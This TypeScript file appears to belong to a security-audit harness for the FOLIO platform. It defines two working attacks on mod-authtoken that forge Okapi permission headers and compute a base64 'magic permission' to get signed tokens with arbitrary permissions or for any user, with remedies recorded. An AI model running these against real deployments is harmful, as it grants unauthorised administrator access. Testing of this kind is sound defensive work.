import type { Attack } from '../attack.ts'
import { handshakeWith, send } from '../conversation.ts'
import { type AttackFinding, findingOf, gotThrough } from '../finding.ts'
import { type HttpAnswer, header, honest, requestBytes, withJson } from '../http.ts'

const WANTED = ['perms.all', 'users.item.delete']

/**
 * mod-authtoken FilterApi.handleAuthorize signs a module token for every entry of the request
 * header X-Okapi-Module-Permissions. Only Okapi removes that header; in calls past Okapi it stays.
 */
export const authtokenDirect: Attack = {
  id: 'authtoken-direct',
  group: 'policy',
  title: 'mod-authtoken asked to sign a token',
  meaning: 'Anyone mints tokens with any permission for any tenant: the whole system is open.',
  judged: 'A signed token in X-Okapi-Module-Tokens; it is proven by its claims and not shown.',
  remedy: 'Only Okapi’s identity may reach mod-authtoken; close its own port.',
  against: 'module',
  async run(context) {
    const rogue = context.credentials?.id ?? 'mod-rogue-1.0.0'
    const lines = [
      ...honest(context),
      ['X-Okapi-Url', 'http://127.0.0.1:9'],
      // As Okapi asks: nothing is required, so X-Okapi-Permissions-Required is left out. It is a list
      // with commas, and `[]` would be the name of a permission that does not exist.
      ['X-Okapi-Module-Permissions', JSON.stringify({ [rogue]: WANTED })],
    ] as const
    const transcript = await send(context, requestBytes({ target: '/users', lines }), {
      handshake: handshakeWith(context.credentials),
    })
    const finding = findingOf(transcript, { harmless: () => true })
    const claims =
      transcript.answers[0] === undefined ? undefined : minted(transcript.answers[0], rogue)
    if (claims === undefined) return finding
    const { type, tenant: signedFor, extra_permissions: rights } = claims
    const proof = `it signed a ${type} token for ${signedFor} with ${JSON.stringify(rights ?? [])}`
    return { ...finding, ...gotThrough(proof) }
  },
}

/** Route.getMagicPermission: the permission that mod-authtoken requires for its own routes. */
const ENDPOINTS = ['/token/sign', '/token'].map((target) => ({
  target,
  permission: `${Buffer.from(target).toString('base64')}.execute`,
}))
/** Not an existing user: a token signed for it opens nothing. */
const USER = '00000000-0000-4000-8000-000000000000'

/**
 * mod-authtoken Route.handleRoute: called as a filter, it answers with this permission, and Okapi sends it
 * in the second call. Past Okapi the caller can write it: with any valid token of the tenant, for example
 * the rogue's own, the module signs a token for any user that the caller names.
 */
export const authtokenSign: Attack = {
  id: 'authtoken-sign',
  group: 'policy',
  title: 'mod-authtoken: a token of any user',
  meaning: 'With any token of a tenant a module becomes any user of it, the administrator too.',
  judged: 'A signed token in the answer; it is proven by its claims and not shown.',
  remedy: 'Only Okapi’s identity may reach mod-authtoken; close its own port.',
  against: 'module',
  async run(context) {
    const body = JSON.stringify({ payload: { sub: 'rogue', user_id: USER } })
    let finding: AttackFinding | undefined
    for (const { target, permission } of ENDPOINTS) {
      const lines = withJson(
        [
          ...honest(context),
          ['X-Okapi-Url', 'http://127.0.0.1:9'],
          ['X-Okapi-Permissions', JSON.stringify([permission])],
        ],
        body,
      )
      const message = requestBytes({ method: 'POST', target, lines, body })
      const transcript = await send(context, message, {
        handshake: handshakeWith(context.credentials),
      })
      const [answer] = transcript.answers
      const claims = answer === undefined ? undefined : signedIn(answer)
      finding ??= findingOf(transcript, { harmless: () => true })
      if (claims?.user_id !== USER) continue
      const proof = `it signed a token of tenant ${claims.tenant} for the user that was asked for`
      return { ...findingOf(transcript), ...gotThrough(proof) }
    }
    return finding!
  },
}

/** The claims of the token in the answer of both endpoints. */
function signedIn({ body }: HttpAnswer): Claims | undefined {
  try {
    const answer: unknown = JSON.parse(body)
    if (typeof answer !== 'object' || answer === null) return undefined
    const { accessToken, token }: { accessToken?: unknown; token?: unknown } = answer
    return claimsOf(String(accessToken ?? token))
  } catch {
    return undefined
  }
}

function minted(answer: HttpAnswer, rogue: string): Claims | undefined {
  try {
    const tokens: unknown = JSON.parse(header(answer, 'x-okapi-module-tokens') ?? 'null')
    if (typeof tokens !== 'object' || tokens === null) return undefined
    const entry = Object.entries(tokens).find(([id]) => id === rogue)
    return entry === undefined ? undefined : claimsOf(String(entry[1]))
  } catch {
    return undefined
  }
}

/** The claims of a FOLIO token (mod-authtoken, tokens/*) that a proof needs. */
interface Claims {
  readonly type?: unknown
  readonly tenant?: unknown
  readonly module?: unknown
  readonly user_id?: unknown
  readonly extra_permissions?: unknown
}

/** The unverified claims of a JSON Web Token; undefined if it is not one. */
function claimsOf(token: string): Claims | undefined {
  const payload = token.split('.')[1]
  if (payload === undefined) return undefined
  try {
    const claims: unknown = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'))
    return typeof claims === 'object' && claims !== null ? claims : undefined
  } catch {
    return undefined
  }
}
